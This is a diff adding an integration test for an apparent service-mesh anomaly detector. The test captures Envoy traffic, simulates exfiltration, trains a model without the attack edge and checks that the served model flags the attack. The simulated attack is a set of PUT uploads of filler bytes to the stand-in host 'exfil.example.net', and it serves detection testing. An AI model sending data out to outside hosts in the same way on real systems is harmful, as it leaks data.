@@ -1,0 +1,105 @@
+"""The tuning workflow on real Envoy traffic, as a person runs it on their own mesh:
+capture → review → train without the attack edge → serve the model → the attack is flagged;
+and the notebook on the same capture, with its plots inline."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from meshwatch.adapters.files.capture import read_capture
+from meshwatch.adapters.files.models import load_bundle
+from meshwatch.localmesh.launcher import LocalMesh
+from tests.commands import meshwatch_cli
+from tests.conftest import Running, eventually
+from tests.notebooks.test_tuning_notebook import outputs, run_notebook
+from tests.runtime.test_envoy_mesh import HTTPBIN_HOST, TOPOLOGY
+
+pytestmark = pytest.mark.envoy
+
+WINDOW = 0.5
+ATTACK = "default/sleep->external/exfil.example.net"
+
+
+async def _normal(mesh: LocalMesh, seconds: float) -> None:
+    deadline = time.monotonic() + seconds
+    i = 0
+    while time.monotonic() < deadline:
+        i += 1
+        with contextlib.suppress(OSError, asyncio.TimeoutError):
+            await mesh.request("sleep", HTTPBIN_HOST, f"/status/{i % 20}", size=200)
+            if i % 3 == 0:
+                await mesh.request("sleep", "api.stripe.com", "/v1/charges", "POST", b"{}")
+        await asyncio.sleep(0.01)
+
+
+async def test_capture_review_exclude_train_serve_flags_the_attack_and_the_notebook_runs(
+    meshwatch: Any, tmp_path: Path, monkeypatch: Any
+) -> None:
+    capture = tmp_path / "capture"
+    # 1. Capture real traffic, with an attack (exfiltration to a new host) in the middle of it.
+    mw: Running = await meshwatch(
+        window=WINDOW, mode="learn", capture_dir=capture, capture_rotate_seconds=5.0
+    )
+    async with LocalMesh(
+        TOPOLOGY, mw.service.als_port, tmp_path / "mesh", flush_seconds=0.2
+    ) as mesh:
+        await _normal(mesh, 8)
+        for _ in range(3):
+            await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 2048)
+        await _normal(mesh, 10)
+    await mw.stop()
+    taken = read_capture(capture)
+    assert taken.meta is not None and taken.meta.window_seconds == WINDOW
+    assert taken.table.num_rows > 300
+
+    # 2. Review: the attack edge is listed among what would be learned.
+    review = await asyncio.to_thread(meshwatch_cli, "baseline", "review", "--from", str(capture))
+    assert review.returncode == 0, review.stderr
+    assert "default/sleep -> external/exfil.example.net" in review.stdout
+    assert "default/sleep -> default/httpbin:8000" in review.stdout
+
+    # 3. Train without it (the window comes from the capture).
+    model = tmp_path / "models" / "mesh.skops"
+    trained = await asyncio.to_thread(
+        meshwatch_cli,
+        "train", "--from", str(capture), "--out", str(model), "--n-estimators", "30",
+        "--exclude-edge", f"{ATTACK}:*",
+    )  # fmt: skip
+    assert trained.returncode == 0, trained.stderr
+    known = load_bundle(model, WINDOW).baseline.known_edges
+    assert not any(e[1] == "external/exfil.example.net" for e in known)
+    assert any(e[1] == "default/httpbin" for e in known)
+
+    # 4. Serve the model: the excluded attack edge is flagged at its first call.
+    served: Running = await meshwatch(window=WINDOW, mode="observe", model=model)
+    async with LocalMesh(
+        TOPOLOGY, served.service.als_port, tmp_path / "mesh2", flush_seconds=0.2
+    ) as mesh:
+        await _normal(mesh, 1)
+        await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 2048)
+
+        async def flagged() -> list[dict[str, Any]]:
+            doc = await served.get_json("/api/v1/anomalies?kind=new-edge")
+            return [a for a in doc["anomalies"] if a["target"] == "external/exfil.example.net"]
+
+        (anomaly,) = await eventually(flagged, timeout=15)
+    assert anomaly["source"] == "default/sleep"
+
+    # 5. The notebook on the same capture: it reads, never writes there; its plots are inline.
+    files = sorted(p.name for p in capture.iterdir())
+    nb = await asyncio.to_thread(
+        run_notebook,
+        tmp_path,
+        {"MESHWATCH_NB_CAPTURE": str(capture), "MESHWATCH_NB_MODELS": str(tmp_path / "nb-models")},
+        monkeypatch,
+    )
+    assert sorted(p.name for p in capture.iterdir()) == files
+    assert len(outputs(nb, "image/png")) >= 2
+    tuned = load_bundle(tmp_path / "nb-models" / "capture-tuned.skops", WINDOW)
+    assert tuned.card.window_seconds == WINDOW
